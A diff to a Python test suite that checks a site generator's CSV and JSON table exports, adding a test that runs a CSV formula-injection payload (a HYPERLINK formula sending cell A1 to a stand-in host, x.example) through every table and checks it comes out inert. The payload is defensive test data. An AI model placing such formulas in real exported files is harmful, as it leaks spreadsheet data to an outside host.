@@ -10,12 +10,14 @@ import xml.etree.ElementTree as ET
 from pathlib import Path
 
 import numpy as np
+import pandas as pd
 import pytest
 import sites
 from hypothesis import given
 from hypothesis import strategies as some
 from ledgers import MACHINE, entry
 from synthetic import SECONDS, TIMES, History
+from test_text import inert
 
 from scripts import alerts, command, ledger
 from scripts.history import Series
@@ -225,10 +227,35 @@ def test_markdown_takes_no_text_for_more(text):
     assert len(shown) <= 300 * 10
 
 
-@pytest.mark.parametrize("cell", ["=1+1", "+1", "-cmd", "@x", "\tx"])
-def test_no_cell_is_a_formula(cell):
-    assert exports.inert(cell) == f"'{cell}"
-    assert exports.inert(f"a{cell}") == f"a{cell}"
+EVIL = '=HYPERLINK("http://x.example/?"&A1,"ok");=1+1\n=2'
+
+
+def test_no_cell_of_any_table_is_a_formula(tmp_path):
+    made = History(tmp_path, 2)
+    sites.describe(made)
+    for night in range(2):
+        path = made.add(night, {SECONDS: {EVIL: 0.002}}, "m;=1", {"mlx": "1"}, cpu=EVIL)
+        told = json.loads(path.read_text())
+        path.write_text(json.dumps(told | {"requirements": {EVIL: EVIL}}))
+    tables = list(sites.built(made).rglob("*.csv"))
+    assert len(tables) == len(site.TABLES) + 1
+    assert [path.name for path in tables if not inert(path.read_text())] == []
+    assert any("HYPERLINK" in path.read_text().partition("\n")[0] for path in tables)
+
+
+def test_a_table_is_bounded_and_no_name_takes_anothers_place(tmp_path):
+    rows = [
+        {"machine\u200b": "x", "machine": "mac\n", "y" * 1000: "\ud800" + "z" * 1000, "n": 1, "m": 0.5},
+        {"n": None},
+    ]
+    exports.write_table(tmp_path, "t", pd.DataFrame(rows))
+    first = {"machine*": "x", "machine": "mac", "y" * 300: "z" * 300, "n": 1.0, "m": 0.5}
+    assert json.loads((tmp_path / "t.json").read_text()) == [first, dict.fromkeys(first)]
+    with (tmp_path / "t.csv").open(newline="") as file:
+        assert list(csv.DictReader(file)) == [
+            {key: str(value) for key, value in first.items()},
+            dict.fromkeys(first, ""),
+        ]
 
 
 @given(some.tuples(some.text(), some.text(), some.text()))
